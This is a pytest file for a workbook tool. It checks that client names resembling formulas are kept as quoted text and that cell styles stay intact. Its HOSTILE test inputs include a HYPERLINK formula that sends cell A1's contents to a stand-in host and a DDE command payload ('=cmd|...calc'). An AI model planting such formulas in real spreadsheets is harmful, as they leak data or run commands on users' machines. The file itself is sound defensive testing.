"""Text that looks like a formula stays text, also where staff open its cell and leave it again."""

from __future__ import annotations

import io
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any, Final

import pytest
from handmade import MAIN, STYLES, packed, parts_of, row_of
from openpyxl import Workbook, load_workbook
from openpyxl.cell.cell import Cell
from python_calamine import CalamineWorkbook
from small_register import LATER, edited, put, small, update

from register.refusals import RefusalError
from workbook import cells
from workbook.package import Package
from workbook.quotes import SIGNS, Quotes, cells_of, looks_like_formula
from workbook.splice import splice
from workbook.verify_parts import prove_quoted

Capture = pytest.CaptureFixture[str]
LINK: Final = '=HYPERLINK("http://firm.example/?"&A1,"Hua Xin")'
SHEET: Final = "xl/worksheets/sheet1.xml"


def renamed(old: str, new: str) -> Callable[[Workbook], None]:
    """Staff call a client otherwise, as text, wherever it is named."""

    def change(book: Workbook) -> None:
        for name in ("Clients", "Equipment"):
            for cell in (each for row in book[name].iter_rows() for each in row if each.value == old):
                assert isinstance(cell, Cell)
                cell.value = new
                cell.data_type = "s"

    return change


def due_clients(path: Path) -> dict[str, tuple[str, bool, Any]]:
    """The clients that Due names: how the cell is kept, whether it has the mark, and its look."""
    sheet = load_workbook(path)["Due"]
    place = next(cell.column for row in sheet.iter_rows() for cell in row if cell.value == "Client")
    found = [cell for column in sheet.iter_cols(place, place) for cell in column if cell.value not in {None, "Client"}]
    kept = [(cell.data_type, bool(cell.quotePrefix), repr((cell.font, cell.fill, cell.border))) for cell in found]
    return dict(zip((str(cell.value) for cell in found), kept, strict=True))


def format_count(path: Path) -> int:
    return len(re.findall(rb"<xf ", Package(path.read_bytes()).read("xl/styles.xml")))


HOSTILE: Final = (
    LINK, "=cmd|'/c calc'!A1", "+886 2 2345 6789", "-1+1", "@SUM(A1)", "\t=1+1", "\n=1+1", "＝１＋１", "－", "=", "@",
)  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
def test_a_clients_name_that_looks_like_a_formula_stays_text(name: str, tmp_path: Path, capsys: Capture) -> None:
    path = put(tmp_path, small())
    edited(path, renamed("Hua Xin", name))
    update(capsys, path)
    clients = due_clients(path)
    shown = next(text for text in clients if text != "Da An")
    assert shown == name.strip()
    assert clients[shown][:2] == ("s", name.strip()[0] in SIGNS)


def test_the_mark_comes_and_goes_and_nothing_else_changes(tmp_path: Path, capsys: Capture) -> None:
    path = put(tmp_path, small())
    edited(path, lambda book: book)
    update(capsys, path)
    before, formats = due_clients(path), format_count(path)
    edited(path, renamed("Hua Xin", LINK))
    update(capsys, path)
    marked = due_clients(path)
    assert marked[LINK] == ("s", True, before["Hua Xin"][2])
    assert marked["Da An"] == before["Da An"]
    written = path.read_bytes()
    assert update(capsys, path)["written"] is False
    assert path.read_bytes() == written
    edited(path, renamed(LINK, "Hua Xin"))
    update(capsys, path)
    assert due_clients(path) == before
    edited(path, renamed("Hua Xin", "=other"))
    update(capsys, path, LATER)
    assert due_clients(path)["=other"][1]
    assert format_count(path) <= formats + 1


FORMATS: Final = '<xf numFmtId="0"/><xf numFmtId="14" applyAlignment="1"><alignment horizontal="left"/></xf>'
PARTS: Final = (
    ("a format of its own", FORMATS, ""),
    ("one that is there", FORMATS + '<xf quotePrefix="1" numFmtId="0"/>', ""),
    ("a prefix", FORMATS, "x"),
)


def styles(formats: str, prefix: str = "") -> bytes:
    xml = f'<styleSheet xmlns="{MAIN}"><cellXfs count="9">{formats}</cellXfs><dxfs/></styleSheet>'
    if prefix:
        xml = re.sub("<(/?)", rf"<\1{prefix}:", xml).replace("xmlns=", f"xmlns:{prefix}=")
    return xml.encode()


def written(package: Package, texts: list[str | None]) -> tuple[bytes, bytes]:
    """The sheet and the styles after a column of texts was written into A and B."""
    columns = {1: cells.texts(texts, str), 2: cells.texts(texts, str)}
    rows = range(1, len(texts) + 1)
    package.replace(SHEET, splice(package.read(SHEET), rows, columns).xml)
    old = package.read(STYLES)
    quotes = Quotes(package)
    assert looks_like_formula(columns) or quotes.in_use
    quotes.mark(SHEET, cells_of(rows, columns))
    quotes.finish()
    prove_quoted(old, package.read(STYLES), STYLES)
    return package.read(SHEET), package.read(STYLES)


@pytest.mark.parametrize(("formats", "prefix"), [case[1:3] for case in PARTS], ids=[case[0] for case in PARTS])
def test_the_same_format_with_the_mark_is_found_or_appended(formats: str, prefix: str) -> None:
    rows = '<row r="1"><c r="A1"><v>1</v></c><c r="B1" s="1"><v>1</v></c><c r="C1" s="1" t="str"><v>=x</v></c></row>'
    parts = parts_of({"S": (rows, [])})
    parts[STYLES] = styles(formats, prefix)
    package = Package(packed(parts))
    sheet, new = written(package, ["=1", "x"])
    assert re.search(rb'<c r="A1" s="2" t="inlineStr"', sheet)
    assert re.search(rb'<c r="B1" s="3" t="inlineStr"', sheet)
    assert b'<c r="C1" s="1" t="str">' in sheet
    p = f"{prefix}:".encode() if prefix else b""
    assert new.count(b"<%bxf " % p) == 4
    assert b'<%balignment horizontal="left"/></%bxf></%bcellXfs>' % (p, p, p) in new
    sheet, again = written(package, ["x", None])
    assert b'<c r="A1" t="inlineStr"' in sheet
    assert b'<c r="B1" s="1" t="inlineStr"' in sheet
    assert again == new


def test_a_cell_that_is_left_as_it_stands_keeps_its_mark() -> None:
    """Staff typed '007 there: the mark is theirs."""
    marked = re.sub(r'(<c r="[A-Z]\d")', r'\1 s="1"', row_of(1, ("x", "x")) + row_of(2, ("x", "x")))
    parts = parts_of({"S": (marked, [])})
    parts[STYLES] = styles('<xf numFmtId="0"/><xf numFmtId="0" quotePrefix="1"/>')
    package = Package(packed(parts))
    columns = {1: cells.Encoded([None, *cells.texts(["y"], str).tails])}
    package.replace(SHEET, splice(package.read(SHEET), [1, 2], columns).xml)
    Quotes(package).mark(SHEET, cells_of([1, 2], columns))
    sheet = package.read(SHEET)
    assert re.findall(rb'<c r="([A-Z]\d)" s="1"', sheet) == [b"A1", b"B1", b"B2"]


def test_the_format_without_the_mark_comes_back_where_another_program_dropped_it() -> None:
    """LibreOffice keeps only the formats that cells have."""
    parts = parts_of({"S": (row_of(1, ("=1",)).replace("<c ", '<c s="1" '), [])})
    parts[STYLES] = styles('<xf numFmtId="0"/><xf numFmtId="14" quotePrefix="true"/>')
    sheet, new = written(Package(packed(parts)), ["plain"])
    assert b'<c r="A1" s="2" t="inlineStr"' in sheet
    assert b'<xf numFmtId="14" quotePrefix="true"/><xf numFmtId="14"/>' in new


SEEN: Final = (
    ("another format", b"</cellXfs>", b'<xf numFmtId="9"/></cellXfs>'),
    ("another list", b"<dxfs/>", b"<dxfs><dxf/></dxfs>"),
    ("one that was there is gone", b'<xf numFmtId="0"/>', b""),
)


@pytest.mark.parametrize(("old", "new"), [case[1:] for case in SEEN], ids=[case[0] for case in SEEN])
def test_nothing_else_may_be_added_to_the_styles(old: bytes, new: bytes) -> None:
    with pytest.raises(RefusalError):
        prove_quoted(styles(FORMATS), styles(FORMATS).replace(old, new, 1), STYLES)


@pytest.mark.parametrize("text", ["x", "1-2", "a=b", "_x003D_1", ""])
def test_other_texts_need_no_mark(text: str) -> None:
    assert not looks_like_formula({1: cells.texts([text, None], str)})


@pytest.mark.parametrize("sign", SIGNS)
def test_each_sign_needs_one(sign: str) -> None:
    assert looks_like_formula({1: cells.texts([None, "x", f"{sign}1"], str)})


def test_a_workbook_opened_again_is_read_as_it_was_written() -> None:
    parts = parts_of({"S": (row_of(1, ("x",)), [])})
    package = Package(packed(parts))
    sheet, _ = written(package, texts := ['=1&"<"', "=1\tx", "－1"])
    read = CalamineWorkbook.from_filelike(io.BytesIO(package.to_bytes())).get_sheet_by_index(0).to_python()
    assert [row[0] for row in read] == texts
    assert sheet.count(b't="inlineStr"') == 6
